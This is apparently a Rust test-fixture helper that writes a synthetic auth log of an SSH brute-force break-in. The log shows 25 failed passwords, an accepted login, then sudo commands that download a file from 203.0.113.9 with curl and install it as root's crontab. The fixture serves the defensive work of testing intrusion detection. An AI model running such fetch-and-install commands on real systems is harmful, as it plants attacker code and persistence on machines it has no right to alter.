//! Somebody guesses a password, gets in, and stays.

use std::io::Write;

use crate::harness::Site;

/// Adds that to the log of a machine, a line a second from a second of the hour on; `and_then`: one line more.
pub fn break_in(
    site: &Site,
    host: &str,
    (user, from): (&str, &str),
    (second, fraction): (u64, &str),
    and_then: &[&str],
) {
    let mut file = std::fs::File::options().append(true).create(true).open(site.path("in.log")).unwrap();
    let mut lines = vec![format!("sshd[7]: Failed password for {user} from {from} port 4242 ssh2"); 25];
    lines.push(format!("sshd[7]: Accepted password for {user} from {from} port 4242 ssh2"));
    for command in ["/usr/bin/curl -o /tmp/x http://203.0.113.9/x", "/usr/bin/crontab /tmp/x"] {
        lines.push(format!("sudo:   {user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={command}"));
    }
    lines.extend(and_then.iter().map(|line| (*line).to_owned()));
    for (second, line) in (second + 1..).zip(lines) {
        writeln!(file, "2026-11-20T10:{:02}:{:02}{fraction}+00:00 {host} {line}", second / 60, second % 60).unwrap();
    }
}
